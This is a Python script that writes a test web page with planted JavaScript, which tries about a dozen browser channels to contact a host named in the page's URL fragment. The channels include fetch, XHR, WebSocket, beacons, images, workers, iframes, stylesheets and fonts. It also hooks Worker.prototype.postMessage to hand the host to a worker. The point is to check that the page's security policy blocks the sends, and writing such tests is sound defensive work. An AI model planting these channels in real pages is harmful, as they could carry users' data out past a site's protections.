"""A page with programs planted in it that try to send something out, for the test of its policy.

Run as `python write_leaky.py BUNDLE FILE`. The policy admits the planted programs, as one who builds a page could have
them admitted; what they may do is what is tested. Each way to send is tried towards `#HOST` of the page's address.
"""

import sys
from dataclasses import replace
from pathlib import Path

from hemotk.files import write_bytes
from hemotk.web.page_file import Programs, html_page
from hemotk.web.site import page_contents

WAYS = """
const attempt = (name, way) => {
  try {
    Promise.resolve(way(`${host}/${where}-${name}`)).catch(() => {});
  } catch {}
};
const added = (tag, properties) => document.head.append(Object.assign(document.createElement(tag), properties));
attempt('fetch', (url) => fetch(url, { mode: 'no-cors' }));
attempt('xhr', (url) => {
  const request = new XMLHttpRequest();
  request.open('GET', url);
  request.send();
});
attempt('socket', (url) => new WebSocket(url.replace('http', 'ws')));
attempt('events', (url) => new EventSource(url));
attempt('beacon', (url) => navigator.sendBeacon(url, 'x'));
attempt('image', (url) => {
  new Image().src = url;
});
attempt('script', (url) => importScripts(url));
attempt('module', (url) => import(url));
attempt('worker', (url) => new Worker(url));
attempt('style', (url) => added('link', { rel: 'stylesheet', href: url }));
attempt('prefetch', (url) => added('link', { rel: 'prefetch', href: url }));
attempt('frame', (url) => added('iframe', { src: url }));
attempt('font', (url) => new FontFace('x', `url(${url})`).load());
"""
IN_PAGE = """
addEventListener('load', () => {
  const where = 'page';
  const host = location.hash.slice(1);
  WAYS
});
const post = Worker.prototype.postMessage;
Worker.prototype.postMessage = function (message, ...rest) {
  message.content.leak = location.hash.slice(1);
  return post.call(this, message, ...rest);
};
"""
IN_WORKER = """
addEventListener('message', (event) => {
  const where = 'worker';
  const host = event.data.content.leak;
  if (host) { WAYS }
});
"""


def main(bundle: Path, out: Path) -> None:
    """Write the page."""
    programs = Programs.load()
    app = IN_PAGE.replace("WAYS", WAYS) + programs.app
    worker = IN_WORKER.replace("WAYS", WAYS) + programs.worker
    card, parts = page_contents(bundle, with_testset=False)
    write_bytes(out, html_page(replace(programs, app=app, worker=worker), card, parts, installable=False))


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]))
